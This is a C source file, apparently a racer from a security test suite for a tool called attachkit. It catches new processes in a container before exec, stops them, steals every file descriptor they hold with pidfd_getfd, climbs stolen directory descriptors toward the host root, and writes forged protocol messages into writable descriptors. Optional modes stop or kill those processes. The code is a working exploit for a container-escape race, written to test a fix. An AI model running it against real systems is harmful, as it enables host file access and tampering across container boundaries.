/*
 * A racer for the security suite (issue: host fds in the window before
 * exec). Run as root inside a privileged container that keeps
 * CAP_SYS_PTRACE. It watches the pid namespace's last pid; each new process
 * is stopped at once (SIGSTOP), every fd it holds is taken with
 * pidfd_getfd(2), and reported as "stolen <pid> <fd> <dev> <what>", where
 * <dev> is the st_dev of the file's filesystem (major:minor) and <what> the
 * /proc/self/fd link of the copy; then "exe <pid> <its /proc/<pid>/exe>"
 * (attachkit's executor: all was taken before the exec). Each stolen fd is
 * then abused:
 * a directory is climbed ("climbed <pid> <fd> <ino of ../../../../..>"), and
 * anything writable gets forged attachkit messages (a pid report naming
 * `victim`, an error, an unknown type). Then the process goes on (SIGCONT).
 *
 * With MODE `stop` it only stops each new process that has not exec'd yet
 * (its /proc/<pid>/exe is still attachkit's executor) and leaves it stopped;
 * with `kill`, it kills such a process (SIGKILL).
 *
 * usage: racer SECONDS VICTIM_HOST_PID [steal|stop|kill]
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static void abuse(int pid, int theirs, int fd, int victim)
{
	char link[64], what[256];
	ssize_t n;
	struct stat st;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = readlink(link, what, sizeof(what) - 1);
	what[n > 0 ? n : 0] = '\0';
	if (fstat(fd, &st) < 0)
		memset(&st, 0, sizeof(st));
	printf("stolen %d %d %u:%u %s\n", pid, theirs, major(st.st_dev), minor(st.st_dev), what);
	if (S_ISDIR(st.st_mode)) {
		int up = openat(fd, "../../../../../../../..", O_RDONLY | O_DIRECTORY);
		struct stat top;
		if (up >= 0 && fstat(up, &top) == 0)
			printf("climbed %d %d %lu\n", pid, theirs, (unsigned long)top.st_ino);
		if (up >= 0)
			close(up);
	}
	/* Forged messages, as the executor's: {type, index, value, reserved}. */
	int32_t forged[3][4] = { { 2, 0, victim, 0 }, { 3, 0, 1, 0 }, { 99, 0, victim, 0 } };
	int flags = fcntl(fd, F_GETFL);
	if (flags >= 0 && (flags & O_ACCMODE) != O_RDONLY)
		for (int k = 0; k < 3; k++)
			if (write(fd, forged[k], sizeof(forged[k])) == sizeof(forged[k]))
				printf("forged %d %d %d\n", pid, theirs, forged[k][0]);
	close(fd);
}

int main(int argc, char **argv)
{
	if (argc != 3 && argc != 4)
		return 2;
	const char *mode = argc == 4 ? argv[3] : "steal";
	time_t end = time(NULL) + atoi(argv[1]);
	int victim = atoi(argv[2]);
	int last = open("/proc/sys/kernel/ns_last_pid", O_RDONLY);
	int self = getpid(), seen = 0;
	char buf[32];

	if (last < 0)
		return 3;
	setvbuf(stdout, NULL, _IOLBF, 0);
	printf("ready %d\n", self);
	while (time(NULL) < end) {
		ssize_t n = pread(last, buf, sizeof(buf) - 1, 0);
		if (n <= 0)
			continue;
		buf[n] = '\0';
		int pid = atoi(buf);
		if (pid == seen || pid == self)
			continue;
		seen = pid;
		if (kill(pid, SIGSTOP) < 0)
			continue;
		if (strcmp(mode, "steal")) {
			char exe[64], what[256];
			ssize_t len;
			snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
			len = readlink(exe, what, sizeof(what) - 1);
			what[len > 0 ? len : 0] = '\0';
			if (!strstr(what, "attachkit-executor")) {
				kill(pid, SIGCONT); /* too late: it runs its command */
				continue;
			}
			if (!strcmp(mode, "kill"))
				kill(pid, SIGKILL);
			printf("%s %d\n", mode, pid);
			continue;
		}
		int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
		if (pidfd < 0) {
			kill(pid, SIGCONT);
			continue;
		}
		printf("caught %d\n", pid);
		for (int fd = 0; fd < 300; fd++) {
			int got = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);
			if (got >= 0)
				abuse(pid, fd, got, victim);
		}
		/* Still attachkit's executor after the theft: all of it was taken before the exec. */
		char exe[64], what[256];
		snprintf(exe, sizeof(exe), "/proc/%d/exe", pid);
		ssize_t len = readlink(exe, what, sizeof(what) - 1);
		what[len > 0 ? len : 0] = '\0';
		printf("exe %d %s\n", pid, what);
		kill(pid, SIGCONT);
		close(pidfd);
	}
	printf("done\n");
	return 0;
}
